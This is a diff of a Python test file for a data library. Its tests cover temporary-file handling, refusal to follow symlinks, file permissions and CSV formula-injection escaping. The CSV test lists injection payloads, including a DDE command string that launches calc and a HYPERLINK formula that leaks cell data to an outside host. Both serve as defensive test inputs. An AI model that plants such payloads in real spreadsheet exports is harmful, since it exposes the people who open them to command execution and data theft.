@@ -1,8 +1,8 @@
+import csv
 import json
 import math
 import os
-import subprocess
-import sys
+import re
 from pathlib import Path
 from typing import Any
 
@@ -10,12 +10,14 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from support import forked
 from support.builders import make_sample
 from vtgdata.errors import VtgError
+from vtgdata.files import temporary
 from vtgdata.files.parquet import read_parquet, write_parquet
 from vtgdata.files.samples import read_samples, row_sample, sample_row, write_drops, write_samples
 from vtgdata.files.schemas import DROPS, SAMPLES
-from vtgdata.files.whole import replacing, tidy, write_json, write_jsonl, write_text
+from vtgdata.files.whole import replacing, tidy, write_csv, write_json, write_jsonl, write_text
 from vtgdata.records import Drop, Repair, Sample, Window
 
 
@@ -146,9 +148,59 @@ def test_json_and_json_lines_are_what_json_reads(tmp_path: Path) -> None:
 
 
 def test_what_a_killed_process_left_is_tidied_away_and_what_is_being_written_stays(tmp_path):
-    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
-    names = [f".a.parquet.{dead.stdout.strip()}.tmp", f".b.parquet.{os.getpid()}.tmp", ".c.tmp", f".d.{'9' * 30}.tmp"]
+    program = "from vtgdata.files.temporary import beside; from pathlib import Path; print(beside(Path('a.parquet')))"
+    dead = forked.run(["-c", program]).stdout.strip()
+    mine = temporary.beside(Path("b.parquet")).name
+    elsewhere = re.sub(r"\.[0-9a-f]{8}-", ".00000000-", dead)
+    names = [dead, mine, elsewhere, ".c.tmp", f".d.{'9' * 30}.tmp", f".e.parquet.{'9' * 9}.tmp", "notes.tmp"]
     for name in names:
         (tmp_path / name).touch()
     tidy(tmp_path)
-    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(names[1:])
+    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(names[1:]), "another machine's process may live"
+    for name in names[1:]:
+        os.utime(tmp_path / name, (1e9, 1e9))
+    tidy(tmp_path)
+    assert sorted(path.name for path in tmp_path.iterdir()) == sorted(
+        [mine, ".c.tmp", f".d.{'9' * 30}.tmp", "notes.tmp"]
+    )
+
+
+def test_no_two_temporary_files_have_one_name_and_no_link_in_their_place_is_followed(tmp_path, monkeypatch):
+    path = tmp_path / "notes.txt"
+    assert len({temporary.beside(path) for _ in range(1000)}) == 1000
+    (tmp_path / "theirs").write_text("theirs")
+    guessed = tmp_path / ".notes.txt.guessed.tmp"
+    guessed.symlink_to(tmp_path / "theirs")
+    monkeypatch.setattr(temporary, "beside", lambda path: guessed)
+    with pytest.raises(FileExistsError):
+        write_text(path, "mine")
+    assert (tmp_path / "theirs").read_text() == "theirs" and not path.exists()
+
+
+def test_a_half_written_file_is_private_and_a_whole_one_has_the_rights_of_any_new_file(tmp_path):
+    with replacing(tmp_path / "a") as file:
+        (half,) = tmp_path.iterdir()
+        assert half.stat().st_mode & 0o777 == 0o600
+        file.write(b"x")
+    (tmp_path / "b").touch()
+    assert (tmp_path / "a").stat().st_mode == (tmp_path / "b").stat().st_mode
+    write_text(tmp_path / ("ä" * 120), "a long name")
+    assert (tmp_path / ("ä" * 120)).read_text() == "a long name"
+
+
+FORMULAS = (
+    "=1+1", "+1+1", "-cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", '"=1+1', "\uff1d1+1", "-1e999", "a;=1+1",
+    "=HYPERLINK(\"http://x/?\"&A1)", "=cmd|' /C calc'!A0", "-2+3+cmd", "a;b;@x",
+)  # fmt: skip
+
+
+def test_no_cell_of_a_csv_file_is_one_that_a_spreadsheet_computes(tmp_path):
+    write_csv(tmp_path / "a.csv", [{"x": text, "n": -1.5} for text in FORMULAS], ["x", "n"])
+    with (tmp_path / "a.csv").open(newline="") as file:
+        cells = [row["x"] for row in csv.DictReader(file)]
+    for text, cell in zip(FORMULAS, cells, strict=True):
+        for part in cell.split(";"):
+            assert not part.strip().startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), text
+            assert "\n" not in part and "\r" not in part
+    write_csv(tmp_path / "b.csv", [{"x": text} for text in ("-1.5", "2", "iou>=0.5", "a-b", "mIoU")], ["x"])
+    assert (tmp_path / "b.csv").read_text() == "x\n-1.5\n2\niou>=0.5\na-b\nmIoU\n"
